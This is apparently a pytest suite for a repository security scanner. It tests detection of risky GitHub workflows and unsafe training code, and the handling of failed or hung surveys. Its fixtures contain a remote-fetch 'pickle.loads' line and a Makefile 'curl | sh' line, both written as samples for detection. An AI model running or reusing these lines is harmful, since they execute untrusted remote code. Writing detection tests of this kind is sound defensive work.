"""Surveys: every repository counts, also the one that fails; nothing unread counts as clean."""

from __future__ import annotations

import os
import time
from collections.abc import Callable
from pathlib import Path

import pytest

from weighbridge.core.check import Domain
from weighbridge.core.fact import Automation
from weighbridge.core.survey import Observation
from weighbridge.engine import survey as module
from weighbridge.engine.audit import run
from weighbridge.engine.ruleset import load
from weighbridge.engine.supervisor import Settings
from weighbridge.engine.survey import SCOPE, Surveyor, of_audit, rules
from weighbridge.policy.prevalence import CONTROLS
from workflows import HEAD, PRT, TOKEN, workflow

UNDIGESTED = Settings(digest=False, jobs=1)
CODE = (
    "import pickle, urllib.request\n"
    "pickle.loads(urllib.request.urlopen('https://example.org/w.pkl').read())\n"
)


def repository(root: Path, files: dict[str, str]) -> Path:
    for name, text in {"pyproject.toml": "[project]\nname = 'r'\n", **files}.items():
        path = root / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)
    return root


def attacked(root: Path) -> Path:
    """A repository in which an outsider's code runs beside a secret."""
    flow = workflow(PRT, HEAD, "run: make test", job=TOKEN)
    return repository(root, {".github/workflows/w.yml": flow, "train.py": CODE})


def seen(target: Path) -> Observation:
    return of_audit(str(target), run(target, UNDIGESTED, scope=SCOPE))


def test_what_is_kept_of_a_repository(tmp_path: Path) -> None:
    files = {
        ".github/workflows/w.yml": workflow(PRT, HEAD, "run: make test", job=TOKEN),
        ".gitlab-ci.yml": "test:\n  script: make\n",
        "train.py": CODE,
        "tests/test_train.py": CODE,
        "examples/broken.py": "def (:\n",
    }
    said = seen(repository(tmp_path / "r", files))
    assert (said.workflows, said.other_ci, said.python) == (1, 1, 1)
    assert said.events == {"pull_request_target": 1}
    assert said.verdicts["workflows"] == said.verdicts["training-code"] == "fail"
    assert {(b.control, b.path) for b in said.blocked} == {
        ("workflows", ".github/workflows/w.yml"), ("training-code", "train.py"),
    }  # fmt: skip
    assert said.blocked[-1].steps or said.blocked[0].steps
    assert said.tallies["unsafe-load"].block == 1
    assert said.aside["unsafe-load"].review == 1
    assert said.gaps == {"workflows": 1}
    assert said.gaps_aside == 1
    assert said.unread[0].startswith(".gitlab-ci.yml: GitLab CI")


@pytest.mark.parametrize(
    "files",
    [
        {".github/workflows/w.yml": workflow(PRT, HEAD, "run: make test", job=TOKEN)},
        {"train.py": CODE, "setup.py": "from setuptools import setup\nsetup()\n"},
        {"a.ipynb": '{"cells": [], "nbformat": 4, "nbformat_minor": 5, "metadata": {}}'},
        {"Makefile": "all:\n\tcurl -s http://example.org/x | sh\n", "x.json": '{"a": "{{ b : }}"}'},
    ],
)
def test_a_survey_finds_what_an_audit_finds(tmp_path: Path, files: dict[str, str]) -> None:
    target = repository(tmp_path, files)
    whole = run(target, UNDIGESTED)
    ours = {check.id for check in whole.checks if check.control in CONTROLS}
    asked = run(target, UNDIGESTED, scope=SCOPE)
    assert asked.findings == tuple(f for f in whole.findings if f.check in ours)
    assert {c.id for c in asked.checks} == ours
    for control in CONTROLS:
        assert [g for g in asked.gaps if control in g.controls] == [
            g for g in whole.gaps if control in g.controls
        ]


def test_only_what_is_asked_is_read() -> None:
    confined = load().within(SCOPE)
    names = {f.name for f in confined.formats}
    assert {"python", "notebook", "workflow"} <= names
    assert names.isdisjoint({"pickle", "zip", "safetensors", "gguf", "json"})
    assert confined.digest == load().digest
    assert SCOPE.domain is Domain.SOURCE
    assert SCOPE.hears == {Automation}


def test_what_was_lost_is_not_clean(tmp_path: Path) -> None:
    target = repository(tmp_path / "r", {"train.py": "import torch\n"})
    (tmp_path / "elsewhere").mkdir()
    (target / "more").symlink_to(tmp_path / "elsewhere")
    assert "training-code" in seen(target).gaps
    whole = [g for g in run(target, UNDIGESTED).gaps if g.at.path == "more"]
    assert all("training-code" in g.controls for g in whole)
    assert whole


def test_one_that_fails_never_ends_the_survey(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    targets = [tmp_path / name for name in ("good", "dies", "raises", "gone", "hangs")]
    for target in targets:
        if target.name != "gone":
            attacked(target)

    def die() -> None:
        os._exit(1)

    def fail() -> None:
        raise RuntimeError("a bug of ours")

    acts: dict[str, Callable[[], None]] = {
        "dies": die, "hangs": lambda: time.sleep(600), "raises": fail,
    }  # fmt: skip

    def fake(target: Path, *args: object, **more: object) -> object:
        acts.get(target.name, lambda: None)()
        return run(target, *args, **more)  # type: ignore[arg-type]

    monkeypatch.setattr(module, "run", fake)
    surveyor = Surveyor(targets[:4], jobs=4, settings=UNDIGESTED)
    said = {Path(o.target).name: o for o, _ in surveyor.run()}
    ((said["hangs"], _),) = Surveyor(targets[4:], settings=UNDIGESTED, seconds=0.5).run()
    assert not said["good"].failed
    assert said["good"].blocked
    assert "ended without a word" in said["dies"].failed
    assert "longer than 0.5 s" in said["hangs"].failed
    assert "a bug of ours" in said["raises"].failed
    assert said["gone"].failed


def test_a_commit_that_is_known_is_not_observed_again(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    target = repository(tmp_path / "r", {})
    commits = ["a" * 40]
    monkeypatch.setattr(module, "commit_of", lambda path: commits[0])
    known = Observation(target=str(target), commit="a" * 40, rules=rules(), files=77)
    assert list(Surveyor([target], settings=UNDIGESTED).run([known])) == [(known, False)]
    commits[0] = "b" * 40
    other = Observation(target=str(target), commit="b" * 40, rules="of another version", files=77)
    failed = Observation(target=str(target), commit="b" * 40, rules=rules(), failed="it hung")
    again = list(Surveyor([target], settings=UNDIGESTED).run([known, other, failed]))
    assert [(o.files, new) for o, new in again] == [(1, True)]


def test_names_that_are_no_text_come_through(tmp_path: Path) -> None:
    target = repository(tmp_path / "r", {})
    os.symlink(tmp_path, os.fsencode(target) + b"/\xff")
    ((said, _),) = Surveyor([target], settings=UNDIGESTED).run()
    assert any("\\udcff" in gap for gap in said.unread)
